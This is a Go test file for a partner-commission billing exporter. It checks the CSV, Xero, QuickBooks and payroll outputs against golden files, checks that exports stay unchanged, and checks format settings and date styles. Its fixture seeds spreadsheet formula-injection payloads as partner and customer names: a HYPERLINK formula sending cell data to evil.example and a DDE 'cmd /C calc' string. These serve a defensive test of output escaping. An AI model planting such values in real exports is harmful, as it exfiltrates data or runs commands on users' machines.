package bill

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/jmoiron/sqlx"
	"github.com/shopspring/decimal"

	"github.com/partnersync/partnersync/internal/clock"
	"github.com/partnersync/partnersync/internal/errs"
	"github.com/partnersync/partnersync/ledger"
	"github.com/partnersync/partnersync/ledger/commission"
)

var full = Settings{AccountCode: "478", TaxType: "Tax Exempt (0%)", DueDays: 30, EarningCode: "COMM"}

// exported is a ledger with an export of names in several scripts, formulas among them.
func exported(t testing.TB) *world {
	w := newWorld(t)
	w.partner("northwind", "Nörthwind, \"Berater\" GmbH", "FG3877")
	w.partner("tokyo", "東京パートナーズ株式会社", "TK0001")
	w.partner("athena", "Αθηνά & Υιοί", "AT0002")
	w.partner("dubai", "شركة النور", "DU0003")
	w.partner("formula", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "EV0004")
	must(w, func(ctx context.Context, tx *sqlx.Tx) ([]string, error) {
		var all []ledger.Customer
		for id, name := range map[string]string{
			"001A": "Acme, Inc.", "001B": "@SUM(1+1)*cmd|' /C calc'!A0", "001C": "-Minus\nand a second line", "001D": "  =1+1", "001E": "Čeští strojaři",
		} {
			all = append(all, ledger.Customer{AccountID: id, Name: name, Modstamp: w.context().Now})
		}
		return ledger.SaveCustomers(ctx, tx, all)
	})
	of := func(account, sale string, term bool) func(*commission.Line) {
		return func(l *commission.Line) {
			l.AccountID, l.Sale = account, commission.SaleType(sale)
			if term {
				l.TermStart, l.TermEnd = clock.NewDate(2026, 1, 1), clock.NewDate(2026, 12, 31)
			}
		}
	}
	w.earn(line("006A", "FG3877", "2026-10", 9205, of("001A", "new_business", true)))
	w.accrue("006A", line("006A", "FG3877", "2026-10", 8205, of("001A", "new_business", true)))
	w.approve()
	w.earn(line("006B", "FG3877", "2026-10", 250000, of("001B", "renewal", true), func(l *commission.Line) {
		l.Regime, l.Slice, l.Rate, l.Base = commission.RegimeRegistration, commission.SliceNetNew, decimal.New(25, -2), decimal.New(10000, 0)
	}))
	w.earn(line("006C", "TK0001", "2026-10", 120000, of("001C", "", false), inCurrency("JPY")))
	w.earn(line("006D", "AT0002", "2026-10", 1, of("001D", "expansion", false), inCurrency("EUR")))
	w.earn(line("006E", "DU0003", "2026-10", 12345, of("001E", "expansion", false), inCurrency("KWD")))
	w.earn(line("006F", "EV0004", "2026-10", 100, of("", "", false)))
	w.earn(line("006G", "R100001", "2026-10", 2500, of("", "", false), func(l *commission.Line) {
		l.Regime, l.Slice, l.Rate, l.Base = commission.RegimeProgram, "flat", decimal.Zero, decimal.Zero
	}))
	if r := w.export("2026-10"); len(r.Bills) != 6 {
		t.Fatalf("%d bills", len(r.Bills))
	}
	return w
}

// TestR8_6_TheFilesAreWhatTheProgramsRead: each format, to the byte.
func TestR8_6_TheFilesAreWhatTheProgramsRead(t *testing.T) {
	w := exported(t)
	for _, f := range Formats() {
		got, err := w.file("2026-10", 1, f, full)
		if err != nil {
			t.Fatal(err)
		}
		golden(t, string(f)+".csv", got)
		rows, err := csv.NewReader(bytes.NewReader(got)).ReadAll()
		if err != nil || len(rows) < 2 {
			t.Fatalf("%s: %v", f, err)
		}
		for _, row := range rows[1:] {
			for i, cell := range row {
				isNumber := false
				if _, err := decimal.NewFromString(cell); err == nil {
					isNumber = true
				}
				if cell != "" && strings.ContainsRune("=+-@", []rune(cell)[0]) && !isNumber {
					t.Errorf("%s: a spreadsheet would work out %s %q", f, rows[0][i], cell)
				}
			}
		}
	}
}

// TestR8_6_AFileIsTheSameForEver, whatever the company calls things later.
func TestR8_6_AFileIsTheSameForEver(t *testing.T) {
	w := exported(t)
	first, err := w.file("2026-10", 1, Xero, full)
	if err != nil {
		t.Fatal(err)
	}
	w.partner("northwind", "Another Name", "FG3877")
	w.earn(line("006Z", "FG3877", "2026-10", 100))
	w.today = date(t, "2026-12-24")
	if r := w.export("2026-10"); r.Number != 2 {
		t.Fatalf("got %+v", r)
	}
	again, err := w.file("2026-10", 1, Xero, Settings{AccountCode: "999", TaxType: "other", DueDays: 5})
	if err != nil || !bytes.Equal(first, again) {
		t.Errorf("the file of the first export is another one now: %v\n%s", err, again)
	}
	// A format that was asked for later says what the export knew.
	late, err := w.file("2026-10", 1, CSV, full)
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "csv.csv", late)
	if second, err := w.file("2026-10", 2, CSV, full); err != nil || bytes.Equal(second, late) || !strings.Contains(string(second), "2026-10-FG3877-USD-2") {
		t.Errorf("%v\n%s", err, second)
	}
	for _, n := range []int{0, 3} {
		if _, err := w.file("2026-10", n, CSV, full); errs.KindOf(err) != errs.NotFound || errs.HintOf(err) == "" {
			t.Errorf("no. %d: %v", n, err)
		}
	}
}

func TestR8_6_AFormatSaysWhatItNeeds(t *testing.T) {
	for _, c := range []struct {
		format Format
		s      Settings
		says   string
	}{
		{CSV, Settings{}, ""},
		{Xero, Settings{TaxType: "x"}, "account"},
		{Xero, Settings{AccountCode: "x"}, "tax rate"},
		{Xero, full, ""},
		{QuickBooks, Settings{}, "account"},
		{QuickBooks, Settings{AccountCode: "x"}, ""},
		{Payroll, Settings{}, "code"},
		{Payroll, full, ""},
		{"excel", full, `no format "excel"`},
	} {
		err := c.format.Check(c.s)
		if (err != nil) != (c.says != "") || err != nil && (!strings.Contains(err.Error(), c.says) || errs.KindOf(err) != errs.Invalid || errs.HintOf(err) == "") {
			t.Errorf("%s with %+v: %v", c.format, c.s, err)
		}
	}
}

func TestDaysAreWrittenAsTheCompanySays(t *testing.T) {
	d := clock.NewDate(2026, 11, 2)
	for way, want := range map[string]string{"": "02/11/2026", DayFirst: "02/11/2026", MonthFirst: "11/02/2026", YearFirst: "2026-11-02"} {
		if got := day(d, Settings{Dates: way}.way(DayFirst)); got.s != want {
			t.Errorf("%q writes %s, want %s", way, got.s, want)
		}
	}
}
